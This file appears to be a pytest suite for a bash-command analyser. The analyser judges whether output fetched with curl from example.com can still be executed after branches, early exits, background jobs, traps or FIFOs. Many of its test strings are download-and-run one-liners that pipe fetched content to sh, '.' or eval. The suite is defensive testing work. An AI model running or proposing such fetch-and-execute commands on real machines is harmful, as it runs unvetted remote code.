"""What a file holds depends on what ran before: in branches, after an early end, and beside the shell."""

from __future__ import annotations

import pytest

from tests.flow.evaluations import outcomes

F = "curl -s https://example.com/p"

STILL_FETCHED = [
    # one of several branches
    f"if a; then {F} > f; else echo true > f; fi; sh f",
    f"a && {F} > f || echo true > f; sh f",
    f"{F} > f; if a; then {F} > f; echo true > f; fi; sh f",
    f"{F} > f; if a; then {{ echo true > f; }}; fi; sh f",
    f"if a; then {F} > f; {{ b && echo true > f; }}; sh f; fi",
    f"if a; then {F} > f; g() {{ echo true > f; }}; sh f; fi",
    f"{F} > g; if a; then > h; fi; mv h g; sh g",
    # left early
    f"{F} > f; g() {{ a || return; echo true > f; }}; g; sh f",
    f"for i in 1; do {F} > f; a || break; echo true > f; done; sh f",
    f"for i in 1 2; do {F} > f; a && continue; echo true > f; done; sh f",
    f"{F} > f; (a || exit; echo true > f); sh f",
    f"{F} > f; (set -e; a; echo true > f); sh f",
    f"{F} > f; sh -c 'a || exit; echo true > f'; sh f",
    f"{F} > f; sh -ec 'a; echo true > f'; sh f",
    f"{F} > f; x=$(a || exit; echo true > f); sh f",
    f"{F} > f; true | {{ a || exit; echo true > f; }}; sh f",
    f"{F} > f; echo 'a || return; echo true > f' > s; . ./s; sh f",
    # beside the shell
    f"{{ sleep 1; sh f; }} & {F} > f; sleep 2; echo true > f",
    f"{{ sleep 1; cp g f; }} & {F} > g; sleep 2; sh f",
    f"{{ sleep 2; sh f; }} & {{ sleep 1; cp g f; }} & {F} > g; wait",
    f"{{ sleep 1; {F} > f; }} & echo true > f; sleep 2; sh f",
    f"mkfifo q; sh q & {F} > q",
    f"coproc {{ sleep 1; {F} > f; }}; echo true > f; sleep 2; sh f",
    f"trap 'sh g' USR1; {F} > g; kill -USR1 $$; echo true > g",
    f'f() {{ trap \'eval "$x"\' RETURN; local x="$({F})"; }}; f',
]

HARMLESS = [
    f"if a; then {F} > f; echo true > f; sh f; fi",
    f"{F} > f; if a; then echo true > f; sh f; fi",
    f"while a; do {F} > f; : > f; sh f; done",
    f"case x in x) {F} > f; > h; mv h f; sh f;; esac",
    f"f() {{ if a; then {F} > g; echo true > g; . ./g; fi; }}; f",
    f"trap '{F} > g; echo true > g; sh g' EXIT",
    f"find . -exec sh -c '{F} > g; echo true > g; . ./g' \\;",
    f"{F} > f; g() {{ a || return; echo true > h; }}; g; sh h",
    f"{F} > f; echo true > f; sleep 1 & sh f",
    f"{F} > f; echo true > f; sh f & wait",
    f"{F} > f; sleep 1 & echo true > f; sh f",
    f"trap 'echo hi' INT; {F} > g; echo true > g; sh g",
    f"sh build.sh & {F} > a.json; wait",
    "trap 'v=$(" + F + '); v="echo hi"; $v\' ERR',
    f"alias al='{F} > f'; sh f",
]


@pytest.mark.parametrize("command", STILL_FETCHED)
def test_fetched_text_may_be_there(command: str) -> None:
    """Where another order or way is possible, what it leaves in a file counts."""
    assert "fetched" in outcomes(command, "bash")


@pytest.mark.parametrize("command", HARMLESS)
def test_what_was_replaced_is_gone(command: str) -> None:
    """Where one command certainly runs after the other, only what the last one wrote is there."""
    assert "fetched" not in outcomes(command, "bash")
